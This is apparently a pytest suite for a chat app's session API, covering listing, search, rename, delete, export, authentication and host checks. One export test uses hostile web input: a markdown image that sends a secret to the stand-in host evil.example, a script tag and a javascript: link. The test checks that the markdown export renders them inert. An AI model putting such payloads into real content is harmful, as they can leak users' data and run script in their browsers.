"""Sessions over HTTP: list newest first, read with sources, rename, delete."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from app.services.sessions import MAX_SEARCH_CHARS
from tests.api_app import anonymous, api_app, error_code
from tests.fakes.chat import FakeChatModel
from tests.running import RunningApp, eventually


@pytest.fixture
async def app(tmp_path: Path) -> AsyncIterator[RunningApp]:
    async with api_app(tmp_path) as running:
        yield running


async def ask(app: RunningApp, message: str, session_id: str | None = None) -> dict:
    body = {"message": message, "session_id": session_id, "stream": False}
    response = await app.client.post("/api/chat", json=body)
    assert response.status_code == 200, response.text
    return response.json()


async def test_list_is_newest_first_with_title_and_last_activity(app: RunningApp) -> None:
    assert (await app.client.get("/api/sessions")).json() == {"sessions": []}
    await ask(app, "Where is the spare key?", "old")
    await ask(app, "What colour is the flowerpot?", "new")
    listed = (await app.client.get("/api/sessions")).json()["sessions"]
    assert [(s["id"], s["title"]) for s in listed] == [
        ("new", "What colour is the flowerpot?"),
        ("old", "Where is the spare key?"),
    ]
    assert all(s["updated_at"] >= s["created_at"] for s in listed)

    await ask(app, "And the back door key?", "old")  # activity moves it to the top
    listed = (await app.client.get("/api/sessions")).json()["sessions"]
    assert [s["id"] for s in listed] == ["old", "new"]
    assert listed[0]["title"] == "Where is the spare key?"  # the title stays the first message
    assert listed[0]["updated_at"] > listed[1]["updated_at"]

    found = (await app.client.get("/api/sessions", params={"q": "COLOUR"})).json()
    assert [s["id"] for s in found["sessions"]] == ["new"]
    # A later message, not the title: the search reads what was said too.
    found = (await app.client.get("/api/sessions", params={"q": "back doo"})).json()
    assert [s["id"] for s in found["sessions"]] == ["old"]


async def test_read_gives_messages_with_their_sources(app: RunningApp) -> None:
    answer = await ask(app, "Where is the spare key?", "s1")
    response = await app.client.get("/api/sessions/s1")
    assert response.status_code == 200
    session = response.json()
    assert session["id"] == "s1" and session["title"] == "Where is the spare key?"
    user, assistant = session["messages"]
    assert (user["role"], user["content"], user["sources"]) == (
        "user",
        "Where is the spare key?",
        [],
    )
    assert assistant["role"] == "assistant" and assistant["content"] == answer["answer"]
    assert assistant["sources"] == answer["sources"]
    assert assistant["sources"][0]["file"] == "notes.md"
    assert "trace" in assistant


async def test_rename_keeps_the_new_title(app: RunningApp) -> None:
    await ask(app, "Where is the spare key?", "s1")
    response = await app.client.patch("/api/sessions/s1", json={"title": "  Keys   and pots "})
    assert response.status_code == 200
    assert response.json()["title"] == "Keys and pots"
    assert (await app.client.get("/api/sessions/s1")).json()["title"] == "Keys and pots"
    await ask(app, "And the back door?", "s1")  # a later turn keeps the chosen title
    assert (await app.client.get("/api/sessions")).json()["sessions"][0]["title"] == (
        "Keys and pots"
    )


@pytest.mark.parametrize(
    "body", [{}, {"title": ""}, {"title": 5}, {"title": "x" * 201}, {"title": "   "}]
)
async def test_rename_with_a_bad_title_gets_422_naming_the_field(
    app: RunningApp, body: dict
) -> None:
    await ask(app, "Where is the spare key?", "s1")
    response = await app.client.patch("/api/sessions/s1", json=body)
    assert response.status_code == 422
    assert error_code(response) == "invalid_request"
    assert "title" in response.json()["error"]["message"]


async def test_delete_removes_the_session_and_its_conversation(app: RunningApp) -> None:
    await ask(app, "Where is the spare key?", "s1")
    await ask(app, "Keep me", "s2")
    response = await app.client.delete("/api/sessions/s1")
    assert response.status_code == 204 and response.content == b""
    assert [s["id"] for s in (await app.client.get("/api/sessions")).json()["sessions"]] == ["s2"]
    gone = await app.client.get("/api/sessions/s1")
    assert gone.status_code == 404 and error_code(gone) == "session_not_found"
    assert await app.container.chat.messages("s1") == []  # the checkpoint thread is gone too
    assert len(await app.container.chat.messages("s2")) == 2
    # The id can be used again and starts empty.
    await ask(app, "Fresh start", "s1")
    assert len((await app.client.get("/api/sessions/s1")).json()["messages"]) == 2


@pytest.mark.parametrize(
    ("method", "body"), [("GET", None), ("PATCH", {"title": "x"}), ("DELETE", None)]
)
async def test_unknown_session_gets_404(app: RunningApp, method: str, body: dict | None) -> None:
    response = await app.client.request(method, "/api/sessions/nope", json=body)
    assert response.status_code == 404
    assert error_code(response) == "session_not_found"
    assert "nope" in response.json()["error"]["message"]


async def test_deleting_a_session_that_is_answering_gets_429(tmp_path: Path) -> None:
    llm = FakeChatModel()
    llm.hold_tokens(1)  # the answer waits after its first word until the delete is refused
    async with api_app(tmp_path, llm=llm) as app:
        body = {"message": "Where is the spare key?", "session_id": "busy"}
        async with app.client.stream("POST", "/api/chat", json=body) as streaming:
            refused = await app.client.delete("/api/sessions/busy")
            llm.release_tokens()
            async for _ in streaming.aiter_lines():
                pass
        assert refused.status_code == 429 and error_code(refused) == "session_busy"
        await eventually(lambda: not app.container.chat.is_busy("busy"), what="turn done")
        assert (await app.client.delete("/api/sessions/busy")).status_code == 204


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/api/sessions"),
        ("GET", "/api/sessions/s1"),
        ("PATCH", "/api/sessions/s1"),
        ("DELETE", "/api/sessions/s1"),
    ],
)
async def test_session_routes_need_the_token_and_our_host(
    app: RunningApp, method: str, path: str
) -> None:
    await ask(app, "Where is the spare key?", "s1")
    async with anonymous(app) as client:
        response = await client.request(method, path, json={"title": "x"})
    assert response.status_code == 401 and error_code(response) == "unauthorized"
    foreign = await app.client.request(
        method, path, json={"title": "x"}, headers={"Host": "evil.example"}
    )
    assert foreign.status_code == 403 and error_code(foreign) == "forbidden_host"
    # Neither request changed anything.
    assert (await app.client.get("/api/sessions/s1")).json()["title"] == "Where is the spare key?"


async def test_export_gives_a_file_with_the_sources(app: RunningApp) -> None:
    answer = await ask(app, "Where is the spare key?", "s1")
    response = await app.client.get("/api/sessions/s1/export")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/markdown")
    assert "attachment" in response.headers["content-disposition"]
    assert response.text.startswith("# Where is the spare key?")
    assert answer["sources"] and f"[1] {answer['sources'][0]['file']}" in response.text
    as_json = await app.client.get("/api/sessions/s1/export", params={"format": "json"})
    assert as_json.json()["messages"][1]["sources"] == answer["sources"]
    missing = await app.client.get("/api/sessions/nobody/export")
    assert missing.status_code == 404 and error_code(missing) == "session_not_found"


async def test_the_markdown_export_is_inert_and_the_json_export_verbatim(app: RunningApp) -> None:
    question = (
        "Is ![x](http://evil.example/leak.png?q=SECRET) <script>alert(1)</script> "
        "[click](javascript:alert(1)) safe?"
    )
    await ask(app, question, "s1")
    markdown = (await app.client.get("/api/sessions/s1/export")).text
    assert "## Question\n\nIs image: x (`http://evil.example/leak.png?q=SECRET`) " in markdown
    assert "\\<script>alert(1)\\</script> click safe?" in markdown
    assert "![x](" not in markdown and "](javascript:" not in markdown
    as_json = await app.client.get("/api/sessions/s1/export", params={"format": "json"})
    assert as_json.json()["messages"][0]["content"] == question


async def test_a_search_over_the_limit_is_refused_naming_it(app: RunningApp) -> None:
    await ask(app, "Where is the spare key?", "s1")
    # 26,000 words: past SQLite's longest LIKE pattern, which once answered 500.
    response = await app.client.get("/api/sessions", params={"q": " ".join(["a"] * 26_000)})
    assert response.status_code == 422 and error_code(response) == "invalid_request"
    message = response.json()["error"]["message"]
    assert f"{MAX_SEARCH_CHARS:,}" in message and "51,999" in message
    longest = await app.client.get("/api/sessions", params={"q": "x" * MAX_SEARCH_CHARS})
    assert longest.status_code == 200 and longest.json() == {"sessions": []}
